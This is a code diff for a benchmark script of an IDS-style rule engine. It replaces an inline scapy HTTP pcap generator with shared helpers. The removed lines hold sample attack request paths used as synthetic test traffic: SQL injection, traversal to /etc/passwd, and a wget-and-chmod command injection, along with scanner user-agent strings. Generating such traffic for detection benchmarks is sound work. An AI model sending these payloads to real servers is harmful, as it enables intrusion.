@@ -3,8 +3,8 @@
 The traffic is the kind where most bytes are inspected: many short HTTP/1.1 connections
 (70 % one request, the rest keep-alive), objects of 200 B .. 60 KB (under libhtp's body
 limits), 20 % chunked, 5 % requests ET Open has rules for (scanners, traversal,
-injection), servers outside HOME_NET. Made with scapy once (seeded, cached in
-bench/.cache/), on the connection writer of ``bench/pcap_throughput.py``.
+injection), servers outside HOME_NET: ``bench/detect_realistic.py``'s generator and its
+cached pcap (bench/.cache/realistic-N.pcap, made once with scapy, seeded).
 
 Besides the whole run's wall time (which includes the serial start: rule loading and the
 engine build) the packet phase is printed: the summary's first-to-last-packet time.
@@ -23,14 +23,9 @@ Usage: python bench/pcap_runmodes.py [--conns 3000] [--workers 1,2] [--sets 10,h
 from __future__ import annotations
 
 import argparse
-import hashlib
-import json
 import os
-import random
 import re
-import subprocess
 import sys
-import tempfile
 import time
 from pathlib import Path
 
@@ -38,14 +33,8 @@ REPO = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(REPO / "bench"))
 
 import pcap_throughput  # noqa: E402
-from pcap_throughput import (  # noqa: E402
-    HOSTS,
-    MSS,
-    PATHS,
-    USER_AGENTS,
-    _Connection,
-    http_rules,
-)
+from detect_realistic import generate, run_engine  # noqa: E402
+from pcap_throughput import http_rules  # noqa: E402
 
 CACHE = REPO / "bench" / ".cache"
 # the shared corpus beside the checkout, or beside a worktree's parent (/work/wt/NAME)
@@ -54,92 +43,18 @@ ET_RULES = next((p / "shared" / "corpus" / "rules" / "et-open-suricata-5.0.rules
                  if (p / "shared" / "corpus" / "rules" / "et-open-suricata-5.0.rules").exists()),
                 pcap_throughput.ET_RULES)
 pcap_throughput.ET_RULES = ET_RULES  # http_rules() reads it there
-SIZES = [200, 600, 1500, 4000, 9000, 20000, 60000]
-ODD = ["/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
-       "/cgi-bin/../../../../etc/passwd", "/.git/config", "/phpmyadmin/index.php",
-       "/?cmd=wget%20http://x/a.sh%3Bchmod%20777%20a.sh", "/shell?cat+/etc/passwd"]
-ODD_UA = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Python-urllib/3.11",
-          "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Go-http-client/1.1"]
 
 
-def _exchange(rng: random.Random) -> tuple[bytes, bytes]:
-    path, host, ua = rng.choice(PATHS), rng.choice(HOSTS), rng.choice(USER_AGENTS)
-    if rng.random() < 0.05:
-        path, ua = rng.choice(ODD), rng.choice(ODD_UA)
-    request = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\n"
-               "Accept: */*\r\n\r\n").encode()
-    size = rng.choice(SIZES)
-    words = b"<p>lorem ipsum dolor sit amet, consectetur adipiscing elit</p>\n"
-    body = (words * (size // len(words) + 1))[:size]
-    head = "HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nContent-Type: text/html\r\n"
-    if rng.random() < 0.2:
-        chunks = b"".join(f"{len(body[i:i + 4096]):x}\r\n".encode() + body[i:i + 4096]
-                          + b"\r\n" for i in range(0, len(body), 4096))
-        return request, (head + "Transfer-Encoding: chunked\r\n\r\n").encode() + chunks \
-            + b"0\r\n\r\n"
-    return request, (head + f"Content-Length: {len(body)}\r\n\r\n").encode() + body
-
-
-def generate(path: Path, conns: int, seed: int = 10) -> None:
-    from scapy.utils import PcapWriter  # type: ignore[import-untyped]
-
-    rng = random.Random(seed)
-    clock = [1_760_000_000.0]
-    tmp = path.with_suffix(".tmp")
-    writer = PcapWriter(str(tmp), linktype=1, sync=False)
-    writer.write_header(None)
-    for conv in range(1, conns + 1):
-        c = _Connection(writer, conv, rng, clock)
-        c.server = f"203.0.113.{conv % 200 + 1}"  # outside HOME_NET (a file only)
-        c.emit(True, "S")
-        c.emit(False, "SA")
-        c.emit(True, "A")
-        for _ in range(1 if rng.random() < 0.7 else rng.randint(2, 6)):
-            request, response = _exchange(rng)
-            c.emit(True, "PA", request)
-            for n, i in enumerate(range(0, len(response), MSS)):
-                c.emit(False, "PA" if i + MSS >= len(response) else "A", response[i:i + MSS])
-                if n % 2:
-                    c.emit(True, "A")
-            c.emit(True, "A")
-        c.emit(False, "FA")
-        c.emit(True, "FA")
-        c.emit(False, "A")
-    writer.close()
-    tmp.rename(path)
-
-
-def run_one(pcap: Path, rules: Path, workers: int) -> dict[str, float | int | str]:
-    logdir = Path(tempfile.mkdtemp(prefix="bench-rm-"))
+def run_one(pcap: Path, rules: Path, workers: int) -> dict[str, object]:
     cpus = len(os.sched_getaffinity(0))
     mode = ["--runmode", "single"] if workers <= 1 else [
         "--runmode", "autofp", "--set", f"threading.detect-thread-ratio={(workers + 0.5) / cpus}"]
-    cmd = [sys.executable, "-m", "ruleengine", "run", "-r", str(pcap), "-S", str(rules),
-           "-l", str(logdir), "-k", "none", "--no-progress", *mode]
-    t0 = time.perf_counter()
-    proc = subprocess.Popen(cmd, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
-    _, status, usage = os.wait4(proc.pid, 0)
-    wall = time.perf_counter() - t0
-    err = proc.stderr.read().decode(errors="replace") if proc.stderr else ""
-    if status != 0:
-        print(err[-2000:], file=sys.stderr)
-    alerts: set[tuple[int, int]] = set()
-    packets = 0
-    with open(logdir / "eve.json", encoding="utf-8") as fh:
-        for line in fh:
-            ev = json.loads(line)
-            if ev.get("event_type") == "alert":
-                alerts.add((ev["alert"]["signature_id"], ev.get("pcap_cnt") or 0))
-            elif ev.get("event_type") == "stats":
-                packets = ev["stats"].get("decoder", {}).get("pkts", packets)
-    digest = hashlib.sha1(json.dumps(sorted(alerts)).encode()).hexdigest()[:12]
+    r = run_engine(REPO, pcap, rules, ["-k", "none", "--no-progress", *mode])
     # the summary's packet phase (first to last packet; the workers' longest), without
     # the start (rule loading, engine build), which is serial in either mode
-    phase = re.search(r"Packets: [\d,]+ \([^)]*\), \d+ invalid in ([\d.]+)s", err)
-    # the children's CPU: the reaped grandchildren are in the child's rusage
-    return {"cpu": usage.ru_utime + usage.ru_stime, "wall": wall, "packets": packets,
-            "phase": float(phase.group(1)) if phase else 0.0,
-            "alerts": len(alerts), "digest": digest, "rss_mb": usage.ru_maxrss / 1024}
+    phase = re.search(r"Packets: [\d,]+ \([^)]*\), \d+ invalid in ([\d.]+)s", str(r["stderr"]))
+    # the children's CPU: the reaped grandchildren are in the child's rusage (run_engine)
+    return {**r, "phase": float(phase.group(1)) if phase else 0.0}
 
 
 def _spin(n: int = 3_000_000) -> None:
